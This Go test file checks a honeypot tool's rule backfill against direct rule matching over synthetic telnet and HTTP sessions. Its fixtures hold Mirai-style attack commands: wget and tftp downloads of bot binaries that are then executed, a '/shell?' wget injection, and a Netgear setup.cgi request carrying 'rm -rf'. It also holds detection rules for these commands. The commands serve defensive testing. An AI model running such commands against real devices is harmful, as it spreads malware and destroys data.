package backfill

import (
	"context"
	"fmt"
	"net/netip"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/honeyscope/honeyscope/internal/civil"
	"github.com/honeyscope/honeyscope/internal/rules"
	"github.com/honeyscope/honeyscope/internal/ruleset"
	"github.com/honeyscope/honeyscope/internal/session"
	"github.com/honeyscope/honeyscope/internal/store"
	"github.com/honeyscope/honeyscope/internal/store/storetest"
)

// ruleC matches honeypot messages the built-in rules leave alone: a loader
// running its binary, "system" after "enable" in one session (flowbits),
// a Netgear setup.cgi request without cmd= and Mirai's "Hello, World"
// user agent.
const ruleC = `alert ip any any -> any any (msg:"TEST loader runs dvrHelper"; honeyscope.cmdline; content:"./dvrHelper"; sid:1000201; rev:1;)
alert ip any any -> any any (msg:"TEST enable"; honeyscope.cmdline; content:"enable"; startswith; flowbits:set,en; flowbits:noalert; sid:1000202; rev:1;)
alert ip any any -> any any (msg:"TEST system after enable"; honeyscope.cmdline; content:"system"; startswith; flowbits:isset,en; sid:1000203; rev:1;)
alert http any any -> any any (msg:"TEST setup.cgi"; flow:to_server,established; http.uri; content:"/setup.cgi"; sid:1000204; rev:1;)
alert http any any -> any any (msg:"TEST Mirai user agent"; flow:to_server,established; http.user_agent; content:"Hello, World"; bsize:12; sid:1000205; rev:1;)
`

// honeypotSessions returns telnet and HTTP sessions of sensor "hp" over
// the days, their commands and requests varying with the day and source.
func honeypotSessions() []session.Session {
	cmds := [][]string{
		{"enable", "system", "shell", "sh", "/bin/busybox ECCHI"},
		{"cd /tmp; wget http://198.51.100.9/bins/x.arm7 -O - > dvrHelper; chmod 777 dvrHelper", "./dvrHelper telnet.loader"},
		{"system", "uname -a"},
		{"tftp -g -r x.mips 198.51.100.9", "./dvrHelper tftp", "enable", "system"},
	}
	paths := []string{"/shell?cd+/tmp;wget+http://198.51.100.9/x", "/setup.cgi?next_file=netgear.cfg", "/index.html"}
	var ss []session.Session
	n := 0
	for d := 0; d < 3; d++ {
		for i := 0; i < 6; i++ {
			n++
			t0 := start.AddDate(0, 0, d).Add(time.Duration(1+i) * time.Hour)
			src := netip.AddrFrom4([4]byte{203, 0, 113, byte(1 + (i+d)%4)})
			s := storetest.Telnet(fmt.Sprintf("t%015d", n), "hp", src, t0, nil, cmds[(i+d)%len(cmds)]...)
			if i%3 == 2 {
				s.Port = 2323
			}
			ss = append(ss, s)
			h := storetest.HTTP(fmt.Sprintf("h%015d", n), "hp", src, t0.Add(time.Minute), paths[(i*d+i)%len(paths)])
			h.Requests[0].Headers = "Host: 192.0.2.1\r\nUser-Agent: Hello, World"
			if i%2 == 1 {
				h.Requests[0].Headers = "Host: 192.0.2.1\r\nUser-Agent: Mozilla/5.0"
			}
			if i == 5 {
				// Not parsed by the honeypot: kept as received.
				h.Requests[0] = session.Request{Time: t0, Headers: "GET /setup.cgi?todo=syscmd&cmd=rm+-rf+/tmp/* HTTP/1.0\r\n\r\n", Status: 400}
			}
			ss = append(ss, h)
		}
	}
	return ss
}

// directSessionCounts runs the rules of files (after the built-in ones)
// over the sessions as they were recorded, before any store: one count per
// command and request under its first alert, keyed by the dims of
// counts() ("day", "pattern" or "day", "src", "port", "pattern", the port
// as stats names it).
func directSessionCounts(t *testing.T, files []ruleset.File, ss []session.Session, bySrc bool) map[string]uint64 {
	t.Helper()
	set, err := ruleset.Load(files, true, rules.Options{})
	if err != nil {
		t.Fatal(err)
	}
	e, err := rules.Compile(set)
	if err != nil {
		t.Fatal(err)
	}
	m := rules.NewMatcher(e)
	out := map[string]uint64{}
	for i := range ss {
		s := &ss[i]
		st := rules.NewFlowbitState(16)
		ctx := &rules.Context{State: st, Flow: 1}
		var alerts []rules.Alert
		for _, c := range s.Commands {
			alerts = append(alerts, first(m.Command(c.Input, ctx, nil))...)
		}
		for _, q := range s.Requests {
			if q.Method == "" {
				alerts = append(alerts, first(m.Payload([]byte(q.Headers), ctx, nil))...)
				continue
			}
			alerts = append(alerts, first(m.HTTP(&rules.HTTPRequest{Method: q.Method, URI: q.Path, Protocol: q.Version, Headers: q.Headers, Body: q.Body}, ctx, nil))...)
		}
		for _, a := range alerts {
			key := s.Start.Format(time.DateOnly) + e.Rules()[a.Rule].ID()
			if bySrc {
				key = s.Start.Format(time.DateOnly) + s.Src.String() + fmt.Sprintf("%dtcp", s.Port) + e.Rules()[a.Rule].ID()
			}
			out[key]++
		}
	}
	return out
}

func first(as []rules.Alert) []rules.Alert { return as[:min(len(as), 1)] }

// TestBackfillSessionsEqualsDirect: honeypot sessions stored with their
// intrusion hits, backfilled under C, have per day and rule (and per
// source, port and rule) the exploit counts the rules give run directly
// over the sessions' commands and requests; they differ from the built-in
// rules' own backfill; a second backfill replaces the first.
func TestBackfillSessionsEqualsDirect(t *testing.T) {
	ctx := context.Background()
	db := filepath.Join(t.TempDir(), "hp.duckdb")
	st := open(t, db)
	ss := honeypotSessions()
	if err := st.CommitSessions(ctx, store.SessionBatch{ID: "b1", Sessions: ss,
		Hits: storetest.IntrusionHits("b1", "hp", ss, time.UTC)}); err != nil {
		t.Fatal(err)
	}
	rsC := addSet(t, st, "C", ruleC, 0)
	files := []ruleset.File{{Name: "C.rules", Text: ruleC}}

	res, err := Run(ctx, st, rsC, store.EvidenceQuery{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	msgs := 0
	for i := range ss {
		msgs += len(ss[i].Commands) + len(ss[i].Requests)
	}
	if res.Sessions != len(ss) || res.Messages != msgs || res.Days != 3 || res.SessionHits == 0 || res.Exploits != res.SessionHits || res.Uncovered != 0 {
		t.Fatalf("backfill result %+v: want %d sessions, %d messages over 3 days", res, len(ss), msgs)
	}
	for _, bySrc := range []bool{false, true} {
		dims := []string{"day", "pattern"}
		if bySrc {
			dims = []string{"day", "src", "port", "pattern"}
		}
		got := counts(t, st, rsC.ID, "", "", dims...)
		want := directSessionCounts(t, files, ss, bySrc)
		if len(want) == 0 || !reflect.DeepEqual(got, want) {
			t.Fatalf("by %v: backfilled C\n%v\ndirect run of C\n%v", dims, got, want)
		}
	}
	// Every rule of C fires on some message, and the built-in rules alone
	// give other counts.
	byRule := counts(t, st, rsC.ID, "", "", "pattern")
	for _, sid := range []string{"1:1000201:1", "1:1000203:1", "1:1000204:1", "1:1000205:1"} {
		if byRule[sid] == 0 {
			t.Fatalf("rule %s matched nothing: %v", sid, byRule)
		}
	}
	if byRule["1:1000202:1"] != 0 {
		t.Fatalf("the noalert rule counted: %v", byRule)
	}
	if _, err := Run(ctx, st, store.RuleSet{ID: store.BuiltinRuleSet, Name: "builtin"}, store.EvidenceQuery{}, nil); err != nil {
		t.Fatal(err)
	}
	builtin := counts(t, st, store.BuiltinRuleSet, "", "", "day", "src", "port", "pattern")
	if want := directSessionCounts(t, nil, ss, true); !reflect.DeepEqual(builtin, want) {
		t.Fatalf("built-in rules backfilled\n%v\ndirect\n%v", builtin, want)
	}
	if reflect.DeepEqual(builtin, counts(t, st, rsC.ID, "", "", "day", "src", "port", "pattern")) {
		t.Fatal("C classifies the sessions as the built-in rules do: the test proves nothing")
	}
	// The country is the session's source's (from its intrusion hits).
	if c := counts(t, st, rsC.ID, "", "", "country"); len(c) != 1 || c["JP"] == 0 {
		t.Fatalf("by country: %v", c)
	}
	// A second backfill of one day replaces that day's counts, leaving
	// the others.
	before := counts(t, st, rsC.ID, "", "", "day", "src", "port", "pattern")
	d1 := civil.Of(start).AddDays(1)
	r2, err := Run(ctx, st, rsC, store.EvidenceQuery{From: d1, To: d1, Sensor: "hp"}, nil)
	if err != nil || r2.Days != 1 || r2.Sessions != 12 {
		t.Fatalf("backfill of one day: %+v %v", r2, err)
	}
	if after := counts(t, st, rsC.ID, "", "", "day", "src", "port", "pattern"); !reflect.DeepEqual(before, after) {
		t.Fatalf("second backfill changed the counts:\n%v\n%v", before, after)
	}
	runs, err := st.RuleSetRuns(ctx, store.EvidenceQuery{Sensor: "hp"})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range runs {
		if r.Backfill && r.RuleSet == rsC.ID {
			got = append(got, r.Day.String())
		}
	}
	if strings.Join(got, " ") != day(0)+" "+day(1)+" "+day(2) {
		t.Fatalf("backfill runs of C: %v", got)
	}
	// Days without sessions nor evidence are still an error.
	if _, err := Run(ctx, st, rsC, store.EvidenceQuery{From: civil.Of(start).AddDays(50)}, nil); err == nil {
		t.Fatal("backfill of empty days: no error")
	}
}
